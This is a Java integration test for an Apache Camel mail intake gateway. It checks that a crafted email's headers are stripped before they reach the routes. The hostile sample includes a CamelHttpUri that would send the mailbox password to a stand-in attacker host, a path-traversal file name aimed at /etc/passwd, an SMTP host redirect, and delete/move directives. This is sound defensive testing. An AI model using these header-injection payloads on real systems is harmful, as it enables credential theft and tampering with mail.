package vn.tonghop.intake.camel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.util.Map;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentHashMap;
import org.apache.camel.builder.RouteBuilder;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import vn.tonghop.simulator.MailServer;

/** A mail whose headers are written to steer the gateway. */
class HostileMailIT {

    private static final byte[] HOSTILE =
            Bench.bytes(
                    """
                    From: vanphong@thapmuoi.dongthap.example.vn
                    To: baocao@tonghop.example.vn
                    Subject: harmless
                    CamelHttpUri: http://attacker.invalid/{{env:BAOCAO_MAIL_PASSWORD}}
                    cAmElFileName: ../../etc/passwd
                    org.apache.camel.x: y
                    mail.smtp.host: attacker.invalid
                    delete: true
                    moveTo: Elsewhere
                    copyTo: Elsewhere

                    Báo cáo (invented)
                    """
                            .replace("\n", "\r\n"));

    private MailServer mail;
    private Bench bench;

    @BeforeEach
    void start() {
        mail = MailServer.start();
        bench =
                Bench.create()
                        .set("BAOCAO_MAIL_HOST", "127.0.0.1")
                        .set("BAOCAO_MAIL_PORT", mail.imapPort())
                        .set("BAOCAO_MAIL_SECURITY", "imap")
                        .set("BAOCAO_MAIL_USERNAME", mail.username())
                        .set("BAOCAO_MAIL_PASSWORD", mail.password())
                        .set("BAOCAO_MAIL_EVERY", "200ms");
    }

    @AfterEach
    void stop() {
        bench.close();
        mail.close();
    }

    @Test
    void itIsTakenInLikeAnyOtherAndStaysInTheMailbox() {
        bench.shipped("sources/mailbox.yaml").start();
        var spy = Spy.on(bench.camel());
        mail.sendRaw("vanphong@thapmuoi.dongthap.example.vn", HOSTILE);

        await().untilAsserted(() -> assertThat(mail.unseen()).isZero());

        assertThat(bench.count("delivery")).isEqualTo(1);
        assertThat(mail.held()).isEqualTo(1);
        assertThat(spy.headers()).isEmpty();
    }

    /** Neither our building block nor our reception is on the way here: the guard alone is. */
    @Test
    void noSuchHeaderPassesWhateverTheFileSays() {
        Map<String, Object> headers = new ConcurrentHashMap<>();
        bench.set("tonghop.routes.allow-code", "true")
                .file(
                        "sources/careless.yaml",
                        """
                        - route:
                            id: source.mail.careless
                            from:
                              uri: imap
                              parameters:
                                host: 127.0.0.1
                                port: %d
                                username: %s
                                password: %s
                                initialDelay: 1000
                              steps:
                                - to: direct:intake.receive
                        """
                                .formatted(mail.imapPort(), mail.username(), mail.password()))
                .start();
        mail.sendRaw("vanphong@thapmuoi.dongthap.example.vn", HOSTILE);
        replaceReception(headers);

        await().untilAsserted(() -> assertThat(headers).containsKey("Subject"));

        assertThat(new TreeSet<>(headers.keySet()))
                .noneMatch(name -> name.toLowerCase().matches("camelhttpuri|camelfilename|org.*"))
                .noneMatch(
                        name -> name.toLowerCase().matches("mail\\.smtp.*|delete|moveto|copyto"));
        await().untilAsserted(() -> assertThat(mail.unseen()).isZero());
        assertThat(mail.held()).isEqualTo(1);
    }

    private void replaceReception(Map<String, Object> headers) {
        try {
            bench.camel().getRouteController().stopRoute("intake.receive");
            bench.camel().removeRoute("intake.receive");
            bench.camel()
                    .addRoutes(
                            new RouteBuilder() {
                                @Override
                                public void configure() {
                                    from("direct:intake.receive")
                                            .process(e -> headers.putAll(e.getIn().getHeaders()));
                                }
                            });
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
